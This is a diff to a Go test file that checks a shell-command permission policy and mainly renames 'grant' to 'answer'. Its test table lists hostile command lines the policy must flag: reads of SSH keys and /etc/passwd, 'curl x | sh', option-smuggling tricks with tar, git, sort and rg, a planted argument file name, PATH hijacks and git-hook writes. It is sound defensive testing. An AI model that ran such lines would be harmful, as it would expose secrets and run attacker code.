@@ -84,8 +84,8 @@ func TestAnswerKeys(t *testing.T) {
 }
 
 // TestAttackLines is the table of attack lines: after an "always" answer
-// for a harmless use, or under an allow rule the README suggests, none of
-// these may run unasked; the controls show the grant still serves.
+// for a harmless use, or under an allow rule docs/security.md suggests, none of
+// these may run unasked; the controls show the answer still serves.
 func TestAttackLines(t *testing.T) {
 	env := newEnv(t)
 	os.Mkdir(filepath.Join(env.cwd, "sub"), 0o755)
@@ -93,9 +93,9 @@ func TestAttackLines(t *testing.T) {
 	os.Mkdir(filepath.Join(env.cwd, "planted"), 0o755)
 	os.WriteFile(filepath.Join(env.cwd, "planted", "--compress-program=sh.txt"), nil, 0o644)
 	cases := []struct {
-		grant, rule string // what the user said
-		line        string
-		want        string // allow, ask
+		answer, rule string // what the user said
+		line         string
+		want         string // allow, ask
 	}{
 		// Allow rules cover one command, not the line around it.
 		{rule: "bash:git status*", line: "git status", want: "allow"},
@@ -116,72 +116,72 @@ func TestAttackLines(t *testing.T) {
 		{rule: "bash:echo *", line: "echo hi > run.sh", want: "ask"},
 		{rule: "bash:echo *", line: "echo hi", want: "allow"},
 		// An "always" for a harmless use covers the same options only.
-		{grant: "sort -u a.txt", line: "sort -u b.txt", want: "allow"},
-		{grant: "sort -u a.txt", line: "sort -o F a.txt", want: "ask"},
-		{grant: "sort -u a.txt", line: "sort -uo F a.txt", want: "ask"},
-		{grant: "sort a.txt", line: "sort --compress-program=./evil a.txt", want: "ask"},
-		{grant: "sort a.txt", line: "sort --compress-prog=./evil a.txt", want: "ask"},
-		{grant: "uniq a.txt", line: "uniq a.txt b.txt", want: "ask"},
-		{grant: "sed -n 1p a.txt", line: "sed -n 1e a.txt", want: "ask"},
-		{grant: "sed -n 1p a.txt", line: "sed -n 1w out a.txt", want: "ask"},
-		{grant: "awk '{print}' a.txt", line: "awk 'BEGIN{system(\"touch X\")}' a.txt", want: "ask"},
-		{grant: "tar -tf a.tar", line: "tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=sh", want: "ask"},
-		{grant: "git diff", line: "git diff --output=../f", want: "ask"},
-		{grant: "git diff --stat", line: "git diff --output=f", want: "ask"},
-		{grant: "git grep foo", line: "git grep --open-files-in-pager=sh foo", want: "ask"},
-		{grant: "git grep foo", line: "git grep -O sh foo", want: "ask"},
-		{grant: "git log", line: "git log --output=x", want: "ask"},
-		{grant: "git log --oneline", line: "git log --oneline", want: "allow"},
-		{grant: "git status", line: "git -c core.fsmonitor='touch X' status", want: "ask"},
-		{grant: "git status", line: "git -C .. status", want: "ask"},
-		{grant: "go vet ./...", line: "go vet -vettool=./evil ./...", want: "ask"},
-		{grant: "go test ./...", line: "go test ./...", want: "allow"},
-		{grant: "go test ./...", line: "go test -exec ./evil ./...", want: "ask"},
-		{grant: "pip3 list", line: "pip3 install ./pkg", want: "ask"},
-		{grant: "python3 x.py", line: "python3 -c 'import os'", want: "ask"},
-		{grant: "make test", line: "make test --eval='x:=$(shell touch X)'", want: "ask"},
-		{grant: "/usr/bin/git status", line: "/usr/bin/git -c core.fsmonitor=x status", want: "ask"},
-		{grant: "/usr/bin/git status", line: "/usr/bin/git status", want: "allow"},
-		{grant: "/usr/bin/git status", line: "git status", want: "ask"},
-		{grant: "cat a.txt", line: "cat b.txt", want: "allow"},
-		{grant: "cat a.txt", line: "cat ../outside/secret", want: "ask"},
-		{grant: "cat a.txt", line: "cat /etc/passwd", want: "ask"},
-		{grant: "cat a.txt", line: "cat ~/.ssh/id_rsa", want: "ask"},
-		{grant: "cat a.txt", line: "cat $HOME/.ssh/id_rsa", want: "ask"},
-		{grant: "cat a.txt", line: "cat etc-link/passwd", want: "ask"},
-		{grant: "cat a.txt", line: "cat {a.txt,../x}", want: "ask"},
-		{grant: "cat a.txt", line: "cat a.txt > b.txt", want: "ask"},
-		{grant: "cat a.txt", line: "cat < ../secret", want: "ask"},
-		{grant: "cat a.txt", line: "FOO=1 cat a.txt", want: "ask"},
-		{grant: "cat a.txt", line: "env cat a.txt", want: "ask"},
-		{grant: "cat a.txt", line: "c${IFS}at a.txt", want: "ask"},
-		{grant: "cat a.txt", line: "cat${IFS}a.txt", want: "ask"},
-		{grant: "find . -name x", line: "find . -name x -exec touch X ;", want: "ask"},
-		{grant: "find . -name x", line: "find . -name x -delete", want: "ask"},
-		{grant: "rg foo", line: "rg --pre ./evil foo", want: "ask"},
-		{grant: "rg foo", line: "rg -z foo", want: "ask"},
-		{grant: "ls", line: "ls; curl x | sh", want: "ask"},
-		{grant: "go test ./... 2>&1 | tail -20", line: "go test ./... 2>&1 | tail -20", want: "allow"},
-		{grant: "go test ./... 2>&1 | tail -20", line: "go test ./... 2>&1 | sh", want: "ask"},
-		{grant: "bash -c 'git status'", line: "bash -c 'git status; touch X'", want: "ask"},
-		{grant: "cd sub && ls", line: "cd .. && ls", want: "ask"},
-		{grant: "ls", line: "ls\u202e", want: "ask"}, // looks like ls, is another program
-		// Found beyond the issue's list.
-		{grant: "cd sub && cat a.txt", line: "cd && cat .ssh/id_rsa", want: "ask"},
-		{grant: "cd sub && cat a.txt", line: "cd - && cat a.txt", want: "ask"},
-		{grant: "cd sub && cat a.txt", line: "CDPATH=/; cd etc && cat passwd", want: "ask"},
-		{grant: "cd sub && cat a.txt", line: "export CDPATH=/; cd etc && cat passwd", want: "ask"},
-		{grant: "ls", line: "PATH=.:$PATH; ls", want: "ask"},
-		{grant: "ls", line: "declare -x PATH=.; ls", want: "ask"},
-		{grant: "python3 <<EOF\nprint(1)\nEOF", line: "python3 <<EOF\nimport os\nEOF", want: "ask"},
-		{grant: "python3 <<EOF\nprint(1)\nEOF", line: "python3 <<EOF\nprint(1)\nEOF", want: "allow"},
-		{grant: "echo ls | sh", line: "echo 'touch X' | sh", want: "ask"},
-		{grant: "sh < a.sh", line: "sh < b.sh", want: "ask"},
-		{grant: "trap 'ls' EXIT", line: "trap 'touch X' EXIT", want: "ask"},
-		{grant: "git status", line: "git status\u00a0--short", want: "ask"},
-		{grant: "sort -u a.txt", line: "sort -u planted/*.txt", want: "ask"},
-		{grant: "sort -u a.txt", line: "sort -u sub/*.txt", want: "allow"},
-		{grant: "cat a.txt", line: "cat etc-lin*/passwd", want: "ask"},
+		{answer: "sort -u a.txt", line: "sort -u b.txt", want: "allow"},
+		{answer: "sort -u a.txt", line: "sort -o F a.txt", want: "ask"},
+		{answer: "sort -u a.txt", line: "sort -uo F a.txt", want: "ask"},
+		{answer: "sort a.txt", line: "sort --compress-program=./evil a.txt", want: "ask"},
+		{answer: "sort a.txt", line: "sort --compress-prog=./evil a.txt", want: "ask"},
+		{answer: "uniq a.txt", line: "uniq a.txt b.txt", want: "ask"},
+		{answer: "sed -n 1p a.txt", line: "sed -n 1e a.txt", want: "ask"},
+		{answer: "sed -n 1p a.txt", line: "sed -n 1w out a.txt", want: "ask"},
+		{answer: "awk '{print}' a.txt", line: "awk 'BEGIN{system(\"touch X\")}' a.txt", want: "ask"},
+		{answer: "tar -tf a.tar", line: "tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=sh", want: "ask"},
+		{answer: "git diff", line: "git diff --output=../f", want: "ask"},
+		{answer: "git diff --stat", line: "git diff --output=f", want: "ask"},
+		{answer: "git grep foo", line: "git grep --open-files-in-pager=sh foo", want: "ask"},
+		{answer: "git grep foo", line: "git grep -O sh foo", want: "ask"},
+		{answer: "git log", line: "git log --output=x", want: "ask"},
+		{answer: "git log --oneline", line: "git log --oneline", want: "allow"},
+		{answer: "git status", line: "git -c core.fsmonitor='touch X' status", want: "ask"},
+		{answer: "git status", line: "git -C .. status", want: "ask"},
+		{answer: "go vet ./...", line: "go vet -vettool=./evil ./...", want: "ask"},
+		{answer: "go test ./...", line: "go test ./...", want: "allow"},
+		{answer: "go test ./...", line: "go test -exec ./evil ./...", want: "ask"},
+		{answer: "pip3 list", line: "pip3 install ./pkg", want: "ask"},
+		{answer: "python3 x.py", line: "python3 -c 'import os'", want: "ask"},
+		{answer: "make test", line: "make test --eval='x:=$(shell touch X)'", want: "ask"},
+		{answer: "/usr/bin/git status", line: "/usr/bin/git -c core.fsmonitor=x status", want: "ask"},
+		{answer: "/usr/bin/git status", line: "/usr/bin/git status", want: "allow"},
+		{answer: "/usr/bin/git status", line: "git status", want: "ask"},
+		{answer: "cat a.txt", line: "cat b.txt", want: "allow"},
+		{answer: "cat a.txt", line: "cat ../outside/secret", want: "ask"},
+		{answer: "cat a.txt", line: "cat /etc/passwd", want: "ask"},
+		{answer: "cat a.txt", line: "cat ~/.ssh/id_rsa", want: "ask"},
+		{answer: "cat a.txt", line: "cat $HOME/.ssh/id_rsa", want: "ask"},
+		{answer: "cat a.txt", line: "cat etc-link/passwd", want: "ask"},
+		{answer: "cat a.txt", line: "cat {a.txt,../x}", want: "ask"},
+		{answer: "cat a.txt", line: "cat a.txt > b.txt", want: "ask"},
+		{answer: "cat a.txt", line: "cat < ../secret", want: "ask"},
+		{answer: "cat a.txt", line: "FOO=1 cat a.txt", want: "ask"},
+		{answer: "cat a.txt", line: "env cat a.txt", want: "ask"},
+		{answer: "cat a.txt", line: "c${IFS}at a.txt", want: "ask"},
+		{answer: "cat a.txt", line: "cat${IFS}a.txt", want: "ask"},
+		{answer: "find . -name x", line: "find . -name x -exec touch X ;", want: "ask"},
+		{answer: "find . -name x", line: "find . -name x -delete", want: "ask"},
+		{answer: "rg foo", line: "rg --pre ./evil foo", want: "ask"},
+		{answer: "rg foo", line: "rg -z foo", want: "ask"},
+		{answer: "ls", line: "ls; curl x | sh", want: "ask"},
+		{answer: "go test ./... 2>&1 | tail -20", line: "go test ./... 2>&1 | tail -20", want: "allow"},
+		{answer: "go test ./... 2>&1 | tail -20", line: "go test ./... 2>&1 | sh", want: "ask"},
+		{answer: "bash -c 'git status'", line: "bash -c 'git status; touch X'", want: "ask"},
+		{answer: "cd sub && ls", line: "cd .. && ls", want: "ask"},
+		{answer: "ls", line: "ls\u202e", want: "ask"}, // looks like ls, is another program
+		// Found by trying the rules as an attacker would.
+		{answer: "cd sub && cat a.txt", line: "cd && cat .ssh/id_rsa", want: "ask"},
+		{answer: "cd sub && cat a.txt", line: "cd - && cat a.txt", want: "ask"},
+		{answer: "cd sub && cat a.txt", line: "CDPATH=/; cd etc && cat passwd", want: "ask"},
+		{answer: "cd sub && cat a.txt", line: "export CDPATH=/; cd etc && cat passwd", want: "ask"},
+		{answer: "ls", line: "PATH=.:$PATH; ls", want: "ask"},
+		{answer: "ls", line: "declare -x PATH=.; ls", want: "ask"},
+		{answer: "python3 <<EOF\nprint(1)\nEOF", line: "python3 <<EOF\nimport os\nEOF", want: "ask"},
+		{answer: "python3 <<EOF\nprint(1)\nEOF", line: "python3 <<EOF\nprint(1)\nEOF", want: "allow"},
+		{answer: "echo ls | sh", line: "echo 'touch X' | sh", want: "ask"},
+		{answer: "sh < a.sh", line: "sh < b.sh", want: "ask"},
+		{answer: "trap 'ls' EXIT", line: "trap 'touch X' EXIT", want: "ask"},
+		{answer: "git status", line: "git status\u00a0--short", want: "ask"},
+		{answer: "sort -u a.txt", line: "sort -u planted/*.txt", want: "ask"},
+		{answer: "sort -u a.txt", line: "sort -u sub/*.txt", want: "allow"},
+		{answer: "cat a.txt", line: "cat etc-lin*/passwd", want: "ask"},
 	}
 	for _, c := range cases {
 		var rules []string
@@ -189,11 +189,11 @@ func TestAttackLines(t *testing.T) {
 			rules = []string{c.rule}
 		}
 		p := permit.NewPolicy(false, rules, nil)
-		if c.grant != "" {
-			p.Remember(approvalOf(env, c.grant), true)
+		if c.answer != "" {
+			p.Remember(approvalOf(env, c.answer), true)
 		}
 		if got, why := decide(p, env, c.line); got != c.want {
-			t.Errorf("after %q%q: %q %s (%s), want %s", c.grant, c.rule, c.line, got, why, c.want)
+			t.Errorf("after %q%q: %q %s (%s), want %s", c.answer, c.rule, c.line, got, why, c.want)
 		}
 	}
 }
@@ -276,13 +276,13 @@ func TestQuestionShowsEverything(t *testing.T) {
 
 // TestWritesRunLaterAsk: a line that writes a file that runs later — by a
 // redirection, a program that writes its arguments, an option's value,
-// git config, a symlink into .git — is asked whatever the mode, grant or
+// git config, a symlink into .git — is asked whatever the mode, answer or
 // rule (the Policy's rule over the approval's locations).
 func TestWritesRunLaterAsk(t *testing.T) {
 	env := newEnv(t)
 	os.MkdirAll(filepath.Join(env.cwd, ".git", "hooks"), 0o755)
 	os.Symlink(filepath.Join(env.cwd, ".git", "hooks"), filepath.Join(env.cwd, "h"))
-	for _, c := range []struct{ grant, line string }{
+	for _, c := range []struct{ answer, line string }{
 		{"echo hi > a.txt", "echo hi > .git/hooks/pre-commit"},
 		{"cp a.txt b.txt", "cp evil.sh .git/hooks/pre-commit"},
 		{"touch a", "touch .envrc"},
@@ -294,9 +294,9 @@ func TestWritesRunLaterAsk(t *testing.T) {
 	} {
 		p := permit.NewPolicy(true, nil, nil)
 		p.WatchRunLater(&runlater.RunLater{Root: env.cwd})
-		p.Remember(approvalOf(env, c.grant), true)
+		p.Remember(approvalOf(env, c.answer), true)
 		if got, why := decide(p, env, c.line); got != "ask" {
-			t.Errorf("%q under yolo after always %q: %s (%s), want ask", c.line, c.grant, got, why)
+			t.Errorf("%q under yolo after always %q: %s (%s), want ask", c.line, c.answer, got, why)
 		}
 	}
 	p := permit.NewPolicy(true, nil, nil)
